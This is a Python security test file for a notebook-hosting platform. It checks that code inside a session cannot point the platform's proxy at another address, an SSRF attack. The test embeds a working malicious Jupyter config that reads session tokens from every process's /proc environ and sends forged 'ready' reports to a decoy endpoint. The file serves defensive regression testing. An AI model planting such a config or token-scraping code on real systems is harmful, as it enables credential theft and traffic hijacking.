"""Attack 3: redirect the proxy anywhere (SSRF).

The proxy forwards members' requests, with the session's token and the member's name added, to whatever
endpoint the studio's row holds. Today the session's own ``ready`` report writes it; so whoever can make that
report (code in the session finds the token and the way to the platform) points the platform's proxy at any
address the platform's host can reach: its loopback, where the database, broker and metadata services listen.
The backend, not a report, must decide where a session is reached.
"""

import httpx

from studios import lifecycle

from .conftest import attacker_browser, requires_isolation, restart, run_as_tester, running, session_token, start, stop

pytestmark = requires_isolation

# Left in the layer, run by JupyterLab at the next start (it reads ~/.jupyter as root with HOME=/root): finds the
# session's token and its way to the platform wherever they are, and reports the session ready at the decoy,
# early and a few times over, before the agent does.
HOSTILE_JUPYTER_CONFIG = r"""
import http.client, json, os, socket, threading, time, urllib.parse

DECOY = {decoy!r}


def _environments():
    yield dict(os.environ)
    for pid in sorted((p for p in os.listdir("/proc") if p.isdigit()), key=int):
        try:
            raw = open(f"/proc/{{pid}}/environ", "rb").read()
        except OSError:
            continue
        yield dict(item.decode(errors="replace").partition("=")[::2] for item in raw.split(b"\0") if b"=" in item)


def _find(name):
    return next((env[name] for env in _environments() if env.get(name)), "")


# Now, while JupyterLab loads its configuration and before it takes the token out of its environment.
_TOKEN = _find("STUDIOS_SESSION_TOKEN")
_SOCKET = _find("STUDIOS_PLATFORM_SOCKET")
_CALLBACK = _find("STUDIOS_CALLBACK_URL")


class _UnixConnection(http.client.HTTPConnection):
    def connect(self):
        self.sock = socket.socket(socket.AF_UNIX)
        self.sock.settimeout(5)
        self.sock.connect(_SOCKET)


def _report_ready_at_the_decoy():
    callback = urllib.parse.urlsplit(_CALLBACK)
    for _ in range(10):
        try:
            if _SOCKET:
                connection = _UnixConnection("localhost", timeout=5)
            else:
                connection = http.client.HTTPConnection(callback.netloc, timeout=5)
            connection.request(
                "POST", callback.path.rstrip("/") + "/ready", body=json.dumps({{"endpoint": DECOY}}),
                headers={{"Authorization": f"Bearer {{_TOKEN}}", "Content-Type": "application/json"}},
            )
            connection.getresponse().read()
        except Exception:
            pass
        time.sleep(0.5)


threading.Thread(target=_report_ready_at_the_decoy, daemon=True).start()
"""


def open_through_the_proxy(world, studio):
    """What a member does: the lab page and a kernel request, through the platform's proxy."""
    session = attacker_browser(world).session(studio)
    return session.http.get("/lab"), session.http.get("/api/kernels")


def test_a_jupyter_config_left_in_the_layer_cannot_point_the_proxy_elsewhere(world, decoy):
    studio = start(world)
    config = HOSTILE_JUPYTER_CONFIG.format(decoy=decoy.url)
    printed = run_as_tester(
        world,
        studio,
        "import pathlib\npath = pathlib.Path('/root/.jupyter/jupyter_server_config.py')\n"
        f"path.parent.mkdir(parents=True, exist_ok=True)\npath.write_text({config!r})\nprint('left', path)",
    )
    assert printed == "left /root/.jupyter/jupyter_server_config.py"
    stop(world, studio)  # its final checkpoint holds the config
    studio = restart(world, studio)
    lab, kernels = open_through_the_proxy(world, studio)
    assert decoy.requests == [], f"the proxy forwarded members' requests to the decoy: {decoy.requests}"
    assert lab.status_code == 200 and "JupyterLab" in lab.text
    assert kernels.status_code == 200


def test_a_ready_report_with_the_session_token_cannot_point_the_proxy_elsewhere(world, decoy):
    studio = world.studio()
    lifecycle.start_studio(world.maintainer, studio)
    # As an attacker holding the token would, while the studio is starting.
    httpx.post(
        f"{world.platform.url}/api/sessions/ready",
        json={"endpoint": decoy.url},
        headers={"Authorization": f"Bearer {session_token(studio)}"},
        timeout=10,
    )
    studio = running(world, studio)
    lab, kernels = open_through_the_proxy(world, studio)
    assert decoy.requests == [], f"the proxy forwarded members' requests to the decoy: {decoy.requests}"
    assert lab.status_code == 200 and "JupyterLab" in lab.text
    assert kernels.status_code == 200
